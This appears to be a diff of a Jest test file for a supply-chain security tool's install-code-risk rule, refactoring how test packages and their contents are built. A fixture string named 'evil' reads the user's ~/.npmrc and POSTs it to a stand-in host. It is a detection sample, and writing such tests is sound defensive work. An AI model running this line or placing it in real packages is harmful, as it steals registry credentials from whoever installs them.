@@ -1,89 +1,40 @@
 import { describe, expect, it } from '@jest/globals';
-import { openEvidence } from '../../src/evidence/collect.ts';
-import type { ContentsReading } from '../../src/evidence/contents.ts';
-import { openTarballs } from '../../src/evidence/tarballs.ts';
 import type { ContentsEvidence } from '../../src/model/contents.ts';
-import { DepwardError } from '../../src/model/errors.ts';
 import type { Gathered } from '../../src/model/evidence.ts';
-import type { ResolvedPackage, ResolvedTree } from '../../src/model/package.ts';
-import { readTarball } from '../../src/registry/tarball.ts';
 import { added, at } from '../../src/rules/example.ts';
 import installCodeRisk from '../../src/rules/install-code-risk.ts';
-import { aPackument, type PackumentTale, packumentsOf } from '../helpers/a-packument.ts';
-import { aPackage } from '../helpers/a-tarball.ts';
+import { contentsFrom, type Packed } from '../helpers/a-tarball-registry.ts';
 
 const now = at('2025-01-01T00:00:00Z');
 const evil =
   'const t = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8");\nfetch("https://drop.example/x", { method: "POST", body: t });';
 
-interface Published {
-  readonly manifest: Readonly<Record<string, unknown>> & { readonly name: string; readonly version: string };
-  readonly files?: Readonly<Record<string, string>>;
-  readonly missing?: boolean;
-}
-
-const tool = (files: Readonly<Record<string, string>>, more: Partial<Published> = {}): Published => ({
+const tool = (files: Readonly<Record<string, string>>, more: Partial<Packed> = {}): Packed => ({
   manifest: { name: 'setup-kit', version: '1.2.3', bin: { 'Some-Tool': './bin/x.js' } },
   files,
   ...more,
 });
-const caller = (script: string): Published => ({
+const caller = (script: string): Packed => ({
   manifest: { name: 'caller', version: '1.0.0', scripts: { postinstall: script }, dependencies: { other: '^1.0.0', 'setup-kit': '^1.0.0' } },
   files: { 'index.js': 'module.exports = 1' },
 });
 
-async function contentsOf(
-  packages: readonly Published[],
-  options: { tree?: boolean; wellKnown?: string; ownOnly?: boolean } = {},
-): Promise<Gathered<ContentsEvidence> | undefined> {
-  const bytes = new Map<string, Buffer>();
-  const tales: PackumentTale[] = [aPackument('other').published('1.0.0', { at: '2020-01-01', bins: ['different'] })];
-  for (const { manifest, files, missing } of packages) {
-    const packed = aPackage(manifest, files);
-    const url = `https://registry.example/${manifest.name}.tgz`;
-    if (!missing) bytes.set(url, packed);
-    tales.push(
-      aPackument(manifest.name).published(manifest.version, {
-        at: '2024-06-01',
-        tarball: url,
-        integrity: (await readTarball(packed)).integrity,
-        scripts: (manifest['scripts'] as Record<string, string> | undefined) ?? {},
-        dependencies: (manifest['dependencies'] as Record<string, string> | undefined) ?? {},
-        bins: Object.keys((manifest['bin'] as Record<string, string> | undefined) ?? {}),
-      }),
-    );
-  }
-  const source = {
-    async *tarballBytes(url: string) {
-      const found = bytes.get(url);
-      if (!found) throw new DepwardError('network', 'the tarball cannot be had');
-      yield found;
-    },
-  };
-  const contents: ContentsReading = {
-    tarballs: openTarballs(source, undefined),
-    offline: false,
-    settledDays: 0,
-    wanted: new Set(),
-    ownOnly: options.ownOnly ?? false,
-  };
+const other = { manifest: { name: 'other', version: '1.0.0', bin: { different: 'x.js' } }, files: {} };
+
+async function contentsOf(packages: readonly Packed[], options: { tree?: boolean; wellKnown?: string; ownOnly?: boolean } = {}) {
   const change = added('caller', '1.0.0');
-  const gathered = await openEvidence({
-    packuments: packumentsOf(tales),
-    names: (name) => ({ near: [], ...(name === options.wellKnown && { downloads: 9_000_000 }) }),
-    now,
-    contents,
-    ...(options.tree && { tree: treeOf([change.after, added('setup-kit', '1.2.3').after]) }),
-  }).gather([change], ['contents']);
-  return gathered.get(change)?.contents;
+  const { contents } = await contentsFrom({
+    packages: [other, ...packages],
+    change,
+    reading: { ownOnly: options.ownOnly ?? false },
+    ...(options.wellKnown !== undefined && { wellKnown: options.wellKnown }),
+    ...(options.tree && { tree: [change.after, added('setup-kit', '1.2.3').after] }),
+  });
+  return contents;
 }
 
-function treeOf(packages: readonly ResolvedPackage[]): ResolvedTree {
-  return { format: 'test', root: {}, packages, dependentsOf: () => [] };
-}
-
-function risks(contents: Gathered<ContentsEvidence> | undefined) {
-  if (!contents?.ok) throw new Error(contents?.reason ?? 'nothing was gathered');
+function risks(contents: Gathered<ContentsEvidence>) {
+  if (!contents.ok) throw new Error(contents.reason);
   return installCodeRisk.check(added('caller', '1.0.0'), { contents: contents.value }, { now, options: {} });
 }
 
